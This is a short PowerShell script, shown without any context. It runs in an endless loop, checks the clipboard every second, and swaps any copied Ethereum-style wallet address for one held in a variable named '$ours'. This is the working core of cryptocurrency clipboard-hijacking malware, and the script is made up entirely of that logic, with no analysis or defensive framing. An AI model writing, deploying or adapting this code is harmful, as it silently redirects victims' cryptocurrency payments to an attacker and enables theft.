while ($true) {
  $t = Get-Clipboard
  if ($t -match '^0x[a-fA-F0-9]{40}$') { Set-Clipboard -Value $ours }
  Start-Sleep -Seconds 1
}
